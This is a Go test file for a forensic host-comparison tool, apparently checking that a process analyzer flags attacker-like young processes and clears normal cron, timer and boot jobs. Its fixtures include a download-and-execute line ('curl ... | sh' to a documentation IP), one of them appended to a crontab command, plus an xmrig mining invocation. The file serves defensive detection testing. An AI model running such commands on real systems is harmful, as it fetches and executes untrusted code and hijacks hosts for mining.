package analyze_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/diffy-dfir/diffy/analyze"
	"github.com/diffy-dfir/diffy/collect"
)

// TestClusterYoungProcesses: a process caught running (started two
// minutes before the collection) on one host of 200 decides when it is an
// attacker's at work (a hidden or world-writable executable, a pose as a
// kernel thread, a daemon from another path or under a role's
// application: none of the host's own work), and does not when it is the
// host's own scheduled work (a job init started from the system's
// directories, whatever that job runs, cron's run of a crontab line) or
// its boot.
func TestClusterYoungProcesses(t *testing.T) {
	const n, bad = 200, 77
	young := fmt.Sprint(collectedAt.Unix() - 120)
	proc := func(pid, name, path, cmdline, uid, parent string) collect.Row {
		return collect.Row{"pid": pid, "name": name, "path": path, "cmdline": cmdline, "uid": uid, "parent": parent, "start_time": young}
	}
	cases := []struct {
		name   string
		change func(h varHost)
		why    string // "" when the host is no outlier
	}{
		{"miner under a hidden name", func(h varHost) {
			h.add("processes", proc("9001", "kdevtmpfsi", "/usr/sbin/.x/kdevtmpfsi", "/usr/sbin/.x/kdevtmpfsi", "0", "1"))
		}, "it runs under a hidden name, which decides"},
		{"miner in a world-writable directory", func(h varHost) {
			h.add("processes", proc("9001", "sysupdate", "/var/tmp/sysupdate", "/var/tmp/sysupdate -B", "33", "1"))
		}, "it runs from a directory every user may write to, which decides"},
		{"deleted executable", func(h varHost) {
			h.add("processes", proc("9001", "dbused", "/usr/sbin/dbused (deleted)", "dbused", "0", "1"))
		}, "its executable was deleted since it started, which decides"},
		{"kernel thread pose", func(h varHost) {
			h.add("processes", proc("9001", "kthreadd", "/usr/sbin/kthreadd", "[kthreadd]", "0", "1"))
		}, "it poses as a kernel thread"},
		{"system binary at a new path", func(h varHost) {
			h["processes"][1] = proc(h["processes"][1]["pid"], "sshd", "/usr/lib/systemd/sshd", "/usr/sbin/sshd -D", "0", "1")
		}, "it is part of none of the host's own work"},
		{"daemon under a role's application", func(h varHost) {
			h["processes"][3] = proc(h["processes"][3]["pid"], "rsyslogd", "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n", "104", "4500")
		}, "it is part of none of the host's own work"},
		{"a timer's job", func(h varHost) {
			lr := proc("9001", "logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "0", "1")
			h.add("processes", lr, proc("9002", "sh", "/usr/bin/dash", "sh -c /usr/lib/rsyslog/rsyslog-rotate", "0", "9001"))
		}, ""},
		{"a timer's job running a package's helper", func(h varHost) {
			get := proc("9001", "apt-get", "/usr/sbin/apt-get", "apt-get -qq -y update", "0", "1")
			h.add("processes", get, proc("9002", "http", "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", "105", "9001"))
		}, ""},
		{"cron's run of a crontab line", func(h varHost) {
			h.add("processes", proc("9001", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f", "0", h["processes"][2]["pid"]),
				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "0", "9001"),
				proc("9003", "run-parts", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", "0", "9002"))
		}, ""},
		{"cron's run of a crontab line, its blanks as written", func(h varHost) {
			// /etc/crontab's "17 *	* * *	root    cd / && run-parts ...":
			// cron keeps the blanks after the user, osquery's crontab
			// row has one space.
			h.add("processes", proc("9001", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "0", h["processes"][2]["pid"]),
				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c    cd / &&  run-parts --report /etc/cron.hourly", "0", "9001"),
				proc("9003", "run-parts", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", "0", "9002"))
		}, ""},
		{"cron's shell running no crontab line", func(h varHost) {
			h.add("processes", proc("9001", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "0", h["processes"][2]["pid"]),
				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly; curl -s http://203.0.113.9/x | sh", "0", "9001"),
				proc("9003", "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x", "0", "9002"))
		}, "it is part of none of the host's own work"},
		{"a daemon's own helper, from its package's directory", func(h varHost) {
			h.add("processes", proc("9001", "snap-seccomp", "/usr/lib/snapd/snap-seccomp",
				"/usr/lib/snapd/snap-seccomp compile /var/lib/snapd/seccomp/bpf/snap.x.src /var/lib/snapd/seccomp/bpf/snap.x.bin2", "0", "4711"))
		}, ""},
		{"a shell a daemon starts", func(h varHost) {
			h.add("processes", proc("9001", "sh", "/usr/bin/dash", "/bin/sh -c curl -s http://203.0.113.9/x | sh", "0", "4711"),
				proc("9002", "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x", "0", "9001"))
		}, "it is part of none of the host's own work"},
		{"a program a daemon starts from outside its package's directory", func(h varHost) {
			h.add("processes", proc("9001", "xmrig", "/usr/lib/xmrig/xmrig", "/usr/lib/xmrig/xmrig -o pool.example:3333", "0", "4711"))
		}, "it is part of none of the host's own work"},
		{"booting", func(h varHost) {
			for _, r := range h["processes"] {
				r["start_time"] = young
			}
			h.add("processes", proc("9001", "cloud-init", "/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/cloud-init modules --mode=final", "0", "1"),
				proc("9002", "part-001", "/usr/bin/bash", "/bin/bash /var/lib/cloud/instance/scripts/part-001", "0", "9001"),
				proc("9003", "puppet", "/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --test", "0", "9002"))
		}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hosts := roleHosts(n)
			for _, h := range hosts {
				// kthreadd, the kernel threads' parent: another process
				// without a parent, with more children than init.
				h.add("processes", collect.Row{"pid": "2", "name": "kthreadd", "path": "", "cmdline": "", "uid": "0", "parent": "0", "start_time": "1"})
				// snapd, a daemon up since boot, whose helpers live in its
				// package's directory.
				h.add("processes", collect.Row{"pid": "4711", "name": "snapd", "path": "/usr/lib/snapd/snapd", "cmdline": "/usr/lib/snapd/snapd", "uid": "0", "parent": "1", "start_time": "1"})
				for k := range 8 {
					h.add("processes", collect.Row{"pid": fmt.Sprint(3 + k), "name": fmt.Sprintf("ksoftirqd/%d", k), "path": "", "cmdline": "", "uid": "0", "parent": "2", "start_time": "1"})
				}
			}
			c.change(hosts[bad])
			rep := analyzeResults(t, varResults(hosts))
			ids := outlierIDs(rep)
			if c.why == "" {
				if len(ids) > 0 {
					h := rep.Outliers()[0]
					t.Fatalf("outliers %v, want none; first finding %s %v: %s", ids, h.Findings[0].CommandID, h.Findings[0].Row, h.Findings[0].Why)
				}
				for _, host := range rep.Hosts {
					if host.InstanceID != hostID(bad) {
						continue
					}
					if !slices.ContainsFunc(host.Findings, func(f analyze.Finding) bool {
						return strings.Contains(f.Why, "a process caught running (a job, a session), which does not decide")
					}) {
						t.Errorf("host %s: no finding says it was caught running: %v", hostID(bad), host.Findings)
					}
					for _, f := range host.Findings {
						if strings.Contains(f.Why, "so it does not decide") {
							t.Errorf("host %s: finding %v gives a reason that is not why it does not decide: %s", hostID(bad), f.Row, f.Why)
						}
					}
				}
				return
			}
			if !slices.Equal(ids, []string{hostID(bad)}) {
				t.Fatalf("outliers %v, want only %s", ids, hostID(bad))
			}
			f := rep.Outliers()[0].Findings[0]
			if f.CommandID != "processes" || !f.Deciding || !strings.Contains(f.Why, "started less than 14 minutes before the collection, but "+c.why) {
				t.Errorf("first finding %s %q (deciding %v), want processes saying %q", f.CommandID, f.Why, f.Deciding, c.why)
			}
		})
	}
}
